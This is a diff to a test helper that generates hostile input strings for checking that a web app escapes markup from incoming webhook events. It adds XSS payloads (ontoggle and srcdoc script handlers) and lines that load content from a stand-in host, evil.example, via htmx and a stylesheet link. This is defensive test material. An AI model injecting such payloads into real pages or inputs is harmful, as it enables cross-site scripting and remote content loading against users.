@@ -4,11 +4,11 @@ from app.webhooks.incoming.apply import apply_events
 from tests.factories import AUTH
 from tests.reporting import store_events
 
-# After so many their parts come in the same pairs again, with other numbers only.
-PAIRS = 18 * 13
+# Strings of two parts each; no pair of parts comes twice.
+COUNT = 500
 
 
-def make_hostile(count):
+def make_hostile(count=COUNT):
     """Make strings that a page would break of, if it took them for markup."""
     parts = (
         "<script>alert({n})</script>",
@@ -29,8 +29,15 @@ def make_hostile(count):
         "\U0001f9d1\u200d\U0001f680 {n} \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
         "</p></section></main><h1>{n}",
         "<meta http-equiv=refresh content=0;url=//{n}>",
+        "<div hx-get=//evil.example/{n} hx-trigger=load>",
+        "<details open ontoggle=alert({n})>",
+        "<iframe srcdoc='<script>alert({n})</script>'>",
+        "<p style=position:fixed;inset:0;font-size:900px>{n}",
+        "<link rel=stylesheet href=//evil.example/{n}.css>",
+        "Z\u0351\u036b\u0343\u036a\u0302a\u0335\u0318\u0331l{n}",
+        "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW{n}",
     )
-    return [f"{parts[n % len(parts)]}{parts[n * 7 % 13]}".format(n=n)[:100] for n in range(count)]
+    return [f"{parts[n % len(parts)]}{parts[n * 7 % 24]}".format(n=n)[:100] for n in range(count)]
 
 
 def reach(service):
